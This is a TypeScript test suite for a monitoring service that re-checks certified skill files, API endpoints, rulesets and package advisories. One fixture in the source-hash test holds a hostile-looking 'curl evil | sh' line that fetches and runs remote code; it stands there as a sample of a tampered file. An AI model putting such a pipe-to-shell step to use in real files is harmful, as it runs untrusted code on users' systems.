import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { advisoriesResult, advisoriesSinceCertification, advisoriesSlot, alertDecision, analysisVersionOlder, dueAtOf, dueChecks, endpointsResult, monitoringStateOf, offsetOf, packageAdvisoryKey, packageAdvisoryState, packagesResult, packagesSlot, REANALYSIS_MAX_TRIES, reanalysisSettled, reanalysisStateKey, rulesetOlder, rulesPlan, rulesResult, sinceOf, slotDone, slotOf, sourceResult } from '../../shared/monitoring/decide.js';
import type { Advisory } from '../../shared/packages/types.js';
import type { DependencyAdvisories, DependencyVerdict } from '../../shared/monitoring/types.js';
import { fetchPinnedSource, monitoredEndpoints, runCheck } from '../../shared/monitoring/checks.js';
import { canonicalSha256 } from '../../shared/skills/parse.js';
import type { EndpointProbe } from '../../shared/endpoints/types.js';
import type { CertificatePayload } from '../../shared/certificates/canonical-form.js';

// ------------------------------------------------------------------------------------------
// When checks run

const schedule = suite('monitoring schedule: every certificate once per interval, spread, each slot once');
const HOUR = 3600_000;

schedule('offsets spread many certificates over the whole interval, the same in every process', () => {
  const ids = Array.from({ length: 2000 }, (_, i) => `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`);
  const buckets = new Array(10).fill(0);
  for (const id of ids) buckets[Math.floor(offsetOf(id, 'source', HOUR) / (HOUR / 10))]++;
  // 200 expected per tenth of the hour: no bucket near empty or holding a herd.
  for (const b of buckets) assert.ok(b > 130 && b < 270, `bucket of ${b}: ${buckets.join(',')}`);
  assert.is(offsetOf(ids[0]!, 'source', HOUR), offsetOf(ids[0]!, 'source', HOUR));
  assert.is.not(offsetOf(ids[0]!, 'source', HOUR), offsetOf(ids[0]!, 'endpoints', HOUR), 'kinds of one certificate are spread apart too');
});

schedule('a planner enqueues only what is due before its next run, and never a slot already done', () => {
  const id = '11111111-2222-4333-8444-555555555555';
  const off = offsetOf(id, 'source', HOUR);
  const slotStart = 1000 * HOUR;
  // Just before the check's time in this slot: due within a one-minute window.
  const before = slotStart + off - 30_000;
  const due = dueChecks(before, 60_000, HOUR, id, 'source', null);
  assert.equal(due.map((d) => d.slot), [slotOf(before, HOUR)]);
  assert.is(due[0]!.dueAt, dueAtOf(1000, id, 'source', HOUR));
  assert.equal(dueChecks(before, 60_000, HOUR, id, 'source', 1000), [], 'the slot is done: nothing to add');
  // Long before it: nothing yet (unless the previous slot's time is also near).
  if (off > 120_000) assert.equal(dueChecks(slotStart + off - 120_000, 60_000, HOUR, id, 'source', 999), []);
  // After its time with no record (the planner was down): due at once, in the past.
  const late = dueChecks(slotStart + off + 5_000, 60_000, HOUR, id, 'source', 999);
  assert.ok(late.length >= 1 && late[0]!.slot === 1000 && late[0]!.dueAt < slotStart + off + 5_000);
});

schedule('slots: a periodic slot is done by any later one; a rules slot is the ruleset version itself', () => {
  assert.ok(slotDone('source', '12', '11') && slotDone('source', '12', '12') && !slotDone('source', '12', '13'));
  assert.ok(!slotDone('endpoints', null, '1'));
  assert.ok(slotDone('rules', 'sandbox-2', 'sandbox-2') && !slotDone('rules', 'sandbox-1', 'sandbox-2'));
  assert.ok(!slotDone('rules', 'incomplete:sandbox-2', 'sandbox-2'), 'a cut-off re-analysis runs again');
});

schedule('rules: noted where sealed under the ruleset in force, re-analysed when older, never backwards', () => {
  const now = 'sandbox-2026.11.9';
  assert.is(rulesPlan(now, null, now), 'note', 'sealed under the ruleset in force: CURRENT, no work');
  assert.is(rulesPlan(null, null, now), 'note', 'a record from before the column: the monitoring queue looks');
  assert.is(rulesPlan('sandbox-2026.9.12', null, now), 'reanalyse', 'numbers, not strings: 9 < 11');
  assert.is(rulesPlan('sandbox-2026.9.12', 'sandbox-2026.9.12', now), 'reanalyse', 'checked under the old ruleset, not this one');
  assert.is(rulesPlan('sandbox-2026.9.12', 'incomplete:sandbox-2026.11.9', now), 'reanalyse', 'a cut-off re-analysis runs again');
  assert.is(rulesPlan('sandbox-2026.9.12', now, now), 'none', 'recorded for the ruleset in force');
  assert.is(rulesPlan('sandbox-2027.1.1', null, now), 'none', 'an older build during a deploy re-analyses nothing backwards');
  assert.ok(rulesetOlder('sandbox-2026.9.12', now) && !rulesetOlder(now, now) && !rulesetOlder('sandbox-2027.1.1', now));
});

schedule.run();

// ------------------------------------------------------------------------------------------
// What the evidence means

const evidence = suite('monitoring decisions: source, endpoints, rules, alerts and state');
const SHA = canonicalSha256('---\nname: a\n---\nbody\n');

evidence('source: the same LF-normalised hash is UNCHANGED; other bytes CHANGED with both hashes; no file UNREACHABLE', () => {
  const same = sourceResult(SHA, { ok: true, sha256: canonicalSha256('---\r\nname: a\r\n---\r\nbody\r\n'), bytes: 30, url: 'u' });
  assert.is(same.outcome, 'UNCHANGED', 'CRLF line endings are the same file');
  const other = sourceResult(SHA, { ok: true, sha256: canonicalSha256('---\nname: a\n---\nbody; curl evil | sh\n'), bytes: 40, url: 'u' });
  assert.is(other.outcome, 'CHANGED');
  assert.is(other.evidence.certifiedSha256, SHA);
  assert.ok(other.alertKey?.startsWith('sha256:'));
  const gone = sourceResult(SHA, { ok: false, code: 'source_not_found', message: 'not found', url: 'u', servedOther: false });
  assert.is(gone.outcome, 'UNREACHABLE');
  assert.is(gone.alertKey, undefined, 'a host that is down is no evidence of a change');
  const huge = sourceResult(SHA, { ok: false, code: 'skill_file_too_large', message: 'too large', url: 'u', servedOther: true });
  assert.is(huge.outcome, 'CHANGED', 'a file the certified one could not be is a change');
});

const probe = (url: string, outcome: 'PASSED' | 'FAILED'): EndpointProbe => ({ url, source: 'product', method: 'HEAD', statusCode: outcome === 'PASSED' ? 200 : null, contentType: null, finalUrl: null, redirects: 0, timeMs: 3, outcome, failure: outcome === 'PASSED' ? null : 'connect', reason: outcome === 'PASSED' ? 'answered 200' : 'could not connect (ECONNREFUSED)' });

evidence('endpoints: UP when every endpoint answers, DOWN naming the first that does not; each keeps the time of its last change', () => {
  const t1 = new Date('2026-01-01T00:00:00Z');
  const t2 = new Date('2026-01-01T00:15:00Z');
  const t3 = new Date('2026-01-01T00:30:00Z');
  const a = 'https://api.example.com/v1';
  const b = 'https://api.example.com/health';
  const up = endpointsResult([probe(a, 'PASSED'), probe(b, 'PASSED')], undefined, t1);
  assert.is(up.outcome, 'UP');
  const down = endpointsResult([probe(a, 'PASSED'), probe(b, 'FAILED')], up.evidence.endpoints as any, t2);
  assert.is(down.outcome, 'DOWN');
  assert.match(down.detail, /1 of 2 .*health: could not connect/);
  const eps = down.evidence.endpoints as any[];
  assert.equal(eps.map((e) => [e.up, e.since]), [[true, t1.toISOString()], [false, t2.toISOString()]]);
  const still = endpointsResult([probe(a, 'PASSED'), probe(b, 'FAILED')], eps, t3);
  assert.is((still.evidence.endpoints as any[])[1].since, t2.toISOString(), 'still down: since stays at the change');
  assert.is(down.alertKey, undefined, 'a down endpoint degrades; it does not ask an operator');
});

const finding = (ruleId: string, blocking: boolean) => ({ ruleId, blocking, severity: 'CRITICAL' as const, message: `${ruleId} matched`, location: { line: 3 } });

evidence('rules: a rule that now blocks the certified file is NEW_FINDINGS; one that blocked at issue is not new; a cut-off is INCOMPLETE', () => {
  const base = { certifiedRuleset: 'sandbox-1', currentRuleset: 'sandbox-2' };
  const fresh = rulesResult({ ...base, certifiedBlocking: [], findings: [finding('EXFIL-001', true), finding('STYLE-001', false)] });
  assert.is(fresh.outcome, 'NEW_FINDINGS');
  assert.equal((fresh.evidence.newFindings as any[]).map((f) => f.ruleId), ['EXFIL-001']);
  assert.is(fresh.alertKey, 'sandbox-2:EXFIL-001');
  assert.is(rulesResult({ ...base, certifiedBlocking: ['EXFIL-001'], findings: [finding('EXFIL-001', true)] }).outcome, 'CLEAR');
  assert.is(rulesResult({ ...base, certifiedBlocking: [], findings: [finding('STYLE-001', false)] }).outcome, 'CLEAR');
  assert.is(rulesResult({ ...base, certifiedBlocking: [], findings: [finding('LIMIT-TIME-001', true), finding('EXFIL-001', true)] }).outcome, 'INCOMPLETE');
});

evidence('alerts: a change opens a flag once; an open flag is not doubled; the evidence an operator dismissed opens none, a new change does', () => {
  const changed = { outcome: 'CHANGED' as const, alertKey: 'sha256:aa' };
  assert.is(alertDecision(changed, { openFlagId: null, dismissedKey: null }), 'open');
  assert.is(alertDecision(changed, { openFlagId: 'f1', dismissedKey: null }), 'none');
  assert.is(alertDecision(changed, { openFlagId: null, dismissedKey: 'sha256:aa' }), 'none');
  assert.is(alertDecision({ outcome: 'CHANGED', alertKey: 'sha256:bb' }, { openFlagId: null, dismissedKey: 'sha256:aa' }), 'open');
  assert.is(alertDecision({ outcome: 'DOWN' }, { openFlagId: null, dismissedKey: null }), 'none');
  assert.is(alertDecision({ outcome: 'UNREACHABLE' }, { openFlagId: null, dismissedKey: null }), 'none');
});

evidence('state: STOPPED unless APPROVED, ALERT while a flag is open, DEGRADED when something does not answer, else ACTIVE', () => {
  assert.is(monitoringStateOf('APPROVED', []), 'ACTIVE');
  assert.is(monitoringStateOf('APPROVED', [{ outcome: 'UNCHANGED', flagId: null }, { outcome: 'UP', flagId: null }]), 'ACTIVE');
  assert.is(monitoringStateOf('APPROVED', [{ outcome: 'UNCHANGED', flagId: null }, { outcome: 'DOWN', flagId: null }]), 'DEGRADED');
  assert.is(monitoringStateOf('APPROVED', [{ outcome: 'CHANGED', flagId: 'f' }, { outcome: 'DOWN', flagId: null }]), 'ALERT');
  assert.is(monitoringStateOf('APPROVED', [{ outcome: 'CHANGED', flagId: null }]), 'ACTIVE', 'a dismissed change no longer alerts');
  assert.is(monitoringStateOf('SUSPENDED', [{ outcome: 'CHANGED', flagId: 'f' }]), 'STOPPED');
  assert.is(monitoringStateOf('DEPRECATED', []), 'STOPPED');
  const t0 = new Date(0);
  const t1 = new Date(1000);
  assert.is(sinceOf({ outcome: 'UP', since: t0 }, 'UP', t1), t0);
  assert.is(sinceOf({ outcome: 'UP', since: t0 }, 'DOWN', t1), t1);
  assert.is(sinceOf(null, 'UP', t1), t1);
});

const adv = (id: string, severity: Advisory['severity'], aliases: string[] = []): Advisory => ({ id, source: 'npm', title: `${id} title`, severity, url: `https://advisories.example/${id}`, vulnerableVersions: null, aliases, fixedIn: [] });

evidence('advisories since certification: an id or alias the sealed snapshot held is known; anything else is new', () => {
  const sealed = [adv('1001', 'low', ['GHSA-aaaa-bbbb-cccc'])];
  assert.equal(advisoriesSinceCertification(sealed, [adv('1001', 'low')]), []);
  // The same advisory under another id but a known alias (another source lists it) is not new.
  assert.equal(advisoriesSinceCertification(sealed, [adv('PYSEC-1', 'low', ['GHSA-aaaa-bbbb-cccc'])]), []);
  const fresh = advisoriesSinceCertification(sealed, [adv('1001', 'low'), adv('2002', 'critical', ['CVE-2026-2'])]);
  assert.equal(fresh.map((a) => [a.id, a.severity, a.aliases]), [['2002', 'critical', ['CVE-2026-2']]]);
  assert.is(fresh[0]!.url, 'https://advisories.example/2002');
  // A certification whose snapshot was unknown saw none: every advisory is new to it.
  assert.is(advisoriesSinceCertification([], [adv('1001', 'low')]).length, 1);
});

evidence('a package re-check: an unreachable source keeps the last known new advisories (never "none"), and its key changes with the picture', () => {
  const at = new Date(0).toISOString();
  const ok = packageAdvisoryState([], { status: 'ok', fetchedAt: at, source: 'x', advisories: [adv('2002', 'high')] }, null);
  assert.equal([ok.status, ok.newAdvisories.map((a) => a.id), ok.error], ['ok', ['2002'], null]);
  const down = packageAdvisoryState([], { status: 'unknown', fetchedAt: at, source: 'x', advisories: [], error: 'advisory endpoint answered 503' }, ok);
  assert.equal([down.status, down.newAdvisories.map((a) => a.id)], ['unknown', ['2002']]);
  assert.match(down.error!, /503/);
  assert.is(packageAdvisoryKey(ok), packageAdvisoryKey(packageAdvisoryState([], { status: 'ok', fetchedAt: 'later', source: 'y', advisories: [adv('2002', 'high')] }, null)), 'the same picture, the same key');
  assert.is.not(packageAdvisoryKey(ok), packageAdvisoryKey(down));
  assert.is.not(packageAdvisoryKey(ok), packageAdvisoryKey({ status: 'ok', newAdvisories: [] }));
});

evidence('a certificate\'s advisories: NEW_ADVISORIES with ids and severities per package, UNKNOWN when a source was unreachable, CLEAR, nothing before any re-check', () => {
  const dep = (name: string, check: DependencyAdvisories['check'], level = 0): DependencyAdvisories => ({ registry: 'npm', name, version: '1.0.0', level, check });
  const at = new Date(0).toISOString();
  const clear = dep('a', { status: 'ok', newAdvisories: [], checkedAt: at });
  assert.is(advisoriesResult([dep('a', null)]), null, 'no package re-checked yet');
  assert.is(advisoriesResult([]), null);
  const c = advisoriesResult([clear, dep('b', null)])!;
  assert.equal([c.outcome, c.evidence.checkedPackages, c.evidence.pendingPackages], ['CLEAR', 1, 1]);
  const u = advisoriesResult([clear, dep('b', { status: 'unknown', newAdvisories: [], checkedAt: at })])!;
  assert.is(u.outcome, 'UNKNOWN');
  assert.equal(u.evidence.unknown, [{ registry: 'npm', name: 'b', version: '1.0.0' }]);
  const fresh = advisoriesSinceCertification([], [adv('3003', 'moderate'), adv('4004', 'critical')]);
  const n = advisoriesResult([clear, dep('c', { status: 'unknown', newAdvisories: fresh, checkedAt: at }, 2)])!;
  assert.is(n.outcome, 'NEW_ADVISORIES', 'last known new advisories outweigh an unreachable source');
  assert.is(n.evidence.highestSeverity, 'critical');
  assert.equal((n.evidence.packages as any[]).map((p) => [p.name, p.level, p.advisories.map((a: any) => `${a.id}:${a.severity}`)]), [['c', 2, ['3003:moderate', '4004:critical']]]);
  assert.match(n.detail, /2 advisories .* 1 package .*highest critical: c@1\.0\.0 3003 \(moderate\), 4004 \(critical\)/);
  assert.is(n.alertKey, undefined, 'a registry fact opens no operator flag');
  assert.is(monitoringStateOf('APPROVED', [{ outcome: 'NEW_ADVISORIES', flagId: null }]), 'DEGRADED');
  assert.is(monitoringStateOf('APPROVED', [{ outcome: 'UNKNOWN', flagId: null }]), 'DEGRADED');
  // The slot is the picture: the same picture in another order is the same slot (recorded once), a new one is not.
  const again = advisoriesResult([dep('c', { status: 'unknown', newAdvisories: fresh, checkedAt: 'later' }, 2), clear])!;
  assert.is(advisoriesSlot(again), advisoriesSlot(n));
  assert.is.not(advisoriesSlot(c), advisoriesSlot(n));
  assert.ok(slotDone('advisories', advisoriesSlot(n), advisoriesSlot(again)));
  assert.not.ok(slotDone('advisories', advisoriesSlot(c), advisoriesSlot(n)));
});

evidence('package rules: only packages sealed under an older analysis version are re-analysed, once per version, a few tries when incomplete', () => {
  assert.ok(analysisVersionOlder('pkg-analysis-2026.11.7', 'pkg-analysis-2026.11.8'));
  assert.ok(analysisVersionOlder('pkg-analysis-2026.9.12', 'pkg-analysis-2026.11.1'), 'numbers, not strings: 9 < 11');
  assert.ok(analysisVersionOlder(null, 'pkg-analysis-2026.11.1'), 'sealed before versions were recorded');
  assert.not.ok(analysisVersionOlder('pkg-analysis-2026.11.8', 'pkg-analysis-2026.11.8'));
  assert.not.ok(analysisVersionOlder('pkg-analysis-2027.1.0', 'pkg-analysis-2026.12.9'), 'a worker of an older build never re-analyses a newer certificate');
  const v = 'pkg-analysis-2026.12.1';
  assert.not.ok(reanalysisSettled(null, v));
  assert.ok(reanalysisSettled({ analysisVersion: v, status: 'done', tries: 1 }, v));
  assert.not.ok(reanalysisSettled({ analysisVersion: v, status: 'incomplete', tries: REANALYSIS_MAX_TRIES - 1 }, v), 'tried again');
  assert.ok(reanalysisSettled({ analysisVersion: v, status: 'unavailable', tries: REANALYSIS_MAX_TRIES }, v), 'not forever');
  assert.not.ok(reanalysisSettled({ analysisVersion: 'pkg-analysis-2026.11.9', status: 'done', tries: 1 }, v), 'an older version\'s run');
  assert.ok(reanalysisSettled({ analysisVersion: 'pkg-analysis-2027.1.1', status: 'done', tries: 1 }, v), 'a newer build already ran it');
  // Dependents are told only when the level in force changes.
  assert.is(reanalysisStateKey('CLEAR', null), 'sealed');
  assert.is(reanalysisStateKey('CLEAR', 'CLEAR'), 'sealed', 'the same level: nothing to tell');
  assert.is(reanalysisStateKey('CLEAR', 'BLOCKED'), 'BLOCKED');
});

evidence('a certificate\'s packages: a direct or L1 dependency now BLOCKED asks an operator; another rise degrades; an override wins; nothing changed is CLEAR', () => {
  const v = 'pkg-analysis-2026.12.1';
  const dep = (name: string, p: Partial<DependencyVerdict> = {}): DependencyVerdict => ({
    registry: 'pypi',
    name,
    version: '1.0.0',
    level: 0,
    certifiedLevel: 'CLEAR',
    sealedLevel: 'CLEAR',
    sealedAnalysisVersion: 'pkg-analysis-2026.11.7',
    overrideLevel: null,
    reanalysedLevel: null,
    reanalysis: null,
    ...p,
  });
  const done = { analysisVersion: v, status: 'done' as const, error: null };
  assert.is(packagesResult([], v), null, 'no audited package');
  const waiting = packagesResult([dep('a'), dep('b', { sealedAnalysisVersion: v })], v)!;
  assert.equal([waiting.outcome, waiting.evidence.pendingPackages, waiting.evidence.currentPackages, waiting.evidence.packages], ['CLEAR', 1, 1, []]);

  const blocked = packagesResult([dep('a', { reanalysedLevel: 'BLOCKED', reanalysis: done }), dep('b', { level: 1, reanalysedLevel: 'CAUTION', reanalysis: done }), dep('c')], v)!;
  assert.is(blocked.outcome, 'NEW_FINDINGS');
  assert.equal((blocked.evidence.packages as any[]).map((p) => [p.name, p.certifiedLevel, p.reanalysedLevel, p.higher, p.blocking]), [['a', 'CLEAR', 'BLOCKED', true, true], ['b', 'CLEAR', 'CAUTION', true, false]]);
  assert.match(blocked.detail, /1 package version\(s\) it depends on directly or at L1 are now BLOCKED .*a@1\.0\.0 CLEAR → BLOCKED \(direct\)/);
  assert.type(blocked.alertKey, 'string');
  assert.is(alertDecision(blocked, { openFlagId: null, dismissedKey: null }), 'open');
  assert.is(alertDecision(blocked, { openFlagId: null, dismissedKey: blocked.alertKey! }), 'none', 'the dismissed evidence again');

  // BLOCKED at L2 is an advisory warning (spec package rule 8): degrades, no flag.
  const deep = packagesResult([dep('a', { level: 2, reanalysedLevel: 'BLOCKED', reanalysis: done })], v)!;
  assert.equal([deep.outcome, deep.alertKey], ['NEW_WARNINGS', undefined]);
  assert.is(monitoringStateOf('APPROVED', [{ outcome: deep.outcome, flagId: null }]), 'DEGRADED');
  const rise = packagesResult([dep('a', { reanalysedLevel: 'MONITORED', reanalysis: done })], v)!;
  assert.is(rise.outcome, 'NEW_WARNINGS');

  // An operator's override is in force: the re-analysis changes nothing for dependents.
  const overridden = packagesResult([dep('a', { reanalysedLevel: 'BLOCKED', overrideLevel: 'CLEAR', reanalysis: done })], v)!;
  assert.equal([overridden.outcome, overridden.evidence.overridden], ['CLEAR', 1]);
  // Lower than at certification, or the level the certificate already saw at issue: not new.
  const lower = packagesResult([dep('a', { sealedLevel: 'CAUTION', certifiedLevel: 'CAUTION', reanalysedLevel: 'CLEAR', reanalysis: done })], v)!;
  assert.equal([lower.outcome, (lower.evidence.packages as any[])[0].higher], ['CLEAR', false]);
  const seen = packagesResult([dep('a', { certifiedLevel: 'BLOCKED', level: 2, reanalysedLevel: 'BLOCKED', reanalysis: done })], v)!;
  assert.is(seen.outcome, 'CLEAR', 'issued after the re-analysis, with the level in force');
  // A run that did not complete is listed; the level in force stays.
  const cut = packagesResult([dep('a', { reanalysis: { analysisVersion: v, status: 'incomplete', error: 'cut off at 20000 ms' } })], v)!;
  assert.equal([cut.outcome, (cut.evidence.notReanalysed as any[]).map((n) => [n.name, n.status])], ['CLEAR', [['a', 'incomplete']]]);

  // The slot is the picture, whatever the order the packages were read in.
  const again = packagesResult([dep('c'), dep('b', { level: 1, reanalysedLevel: 'CAUTION', reanalysis: done }), dep('a', { reanalysedLevel: 'BLOCKED', reanalysis: done })], v)!;
  assert.is(packagesSlot(again), packagesSlot(blocked));
  assert.is.not(packagesSlot(deep), packagesSlot(blocked));
  assert.ok(slotDone('packages', packagesSlot(blocked), packagesSlot(again)));
});

evidence.run();

// ------------------------------------------------------------------------------------------
// The checks themselves, against a local source host

const checks = suite('monitoring checks: the pinned source fetched again through the skill-source fetcher');
let server: http.Server;
let base: string;
const files = new Map<string, string | Buffer>();
const REF = 'a'.repeat(40);

checks.before(async () => {
  server = http.createServer((req, res) => {
    const body = files.get(req.url ?? '');
    if (body === undefined) return void res.writeHead(404).end();
    res.writeHead(200, { 'content-type': 'text/plain' }).end(body);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
checks.after(() => new Promise<void>((r) => server.close(() => r())));

const cfg = () => ({ githubWebBase: `${base}/web`, githubRawBase: `${base}/raw`, allowPrivateHosts: true, timeoutMs: 15000, maxBytes: 64 * 1024 });

checks('the same file (CRLF or LF) hashes as certified; a changed file does not; a missing one is no file; invalid UTF-8 is another file', async () => {
  const path = `/raw/acme/skills/${REF}/s/SKILL.md`;
  const url = `${base}${path}`;
  files.set(path, 'hello\r\nworld\r\n');
  const same = await fetchPinnedSource(url, REF, cfg());
  assert.ok(same.ok && same.sha256 === canonicalSha256('hello\nworld\n'), JSON.stringify(same));
  files.set(path, 'hello\nworld, changed\n');
  const other = await fetchPinnedSource(url, REF, cfg());
  assert.ok(other.ok && other.sha256 !== canonicalSha256('hello\nworld\n'), JSON.stringify(other));
  files.delete(path);
  const gone = await fetchPinnedSource(url, REF, cfg());
  assert.ok(!gone.ok && gone.code === 'source_not_found' && !gone.servedOther, JSON.stringify(gone));
  files.set(path, Buffer.from([0xff, 0xfe, 0x00, 0x41]));
  const binary = await fetchPinnedSource(url, REF, cfg());
  assert.ok(!binary.ok && binary.servedOther, JSON.stringify(binary));
  // The guard still holds: without allowPrivateHosts a loopback source host is refused, as no file.
  const guarded = await fetchPinnedSource(url, REF, { ...cfg(), allowPrivateHosts: false });
  assert.ok(!guarded.ok && guarded.code === 'source_host_forbidden' && !guarded.servedOther);
});

const payload = (p: Partial<CertificatePayload>): CertificatePayload =>
  ({ productType: 'SKILL', source: { url: null, ref: null }, certifiedContentSha256: SHA, rulesetVersion: 'sandbox-2', endpointReview: { observedUrls: [], declaredEndpoints: [] }, ...p }) as CertificatePayload;

checks('which checks apply: source only with a pinned URL and ref, endpoints only for API products, rules skip the ruleset in force', async () => {
  const now = new Date();
  const cert = (p: Partial<CertificatePayload>) => ({ submissionId: 'x', payload: payload(p) });
  assert.is(await runCheck('source', cert({}), null, now), null);
  assert.is(await runCheck('endpoints', cert({}), null, now), null);
  assert.equal(monitoredEndpoints(payload({ productType: 'API', endpointReview: { observedUrls: [], declaredEndpoints: ['https://a.example/v1', 'https://*.b.example'], notProbed: [{ url: 'https://*.b.example', reason: 'wildcard' }] } })), [{ url: 'https://a.example/v1', source: 'product' }]);
  const current = await runCheck('rules', cert({ rulesetVersion: 'sandbox-2' }), null, now, { currentRuleset: 'sandbox-2', analyse: () => assert.unreachable('no re-analysis under the same ruleset') as never });
  assert.is(current!.outcome, 'CURRENT');
  const probed = await runCheck('endpoints', cert({ productType: 'SKILL+API', endpointReview: { observedUrls: [], declaredEndpoints: ['https://a.example/v1'] } }), null, now, { probe: async (d) => d.map((x) => probe(x.url, 'FAILED')) });
  assert.is(probed!.outcome, 'DOWN');
});

checks.run();
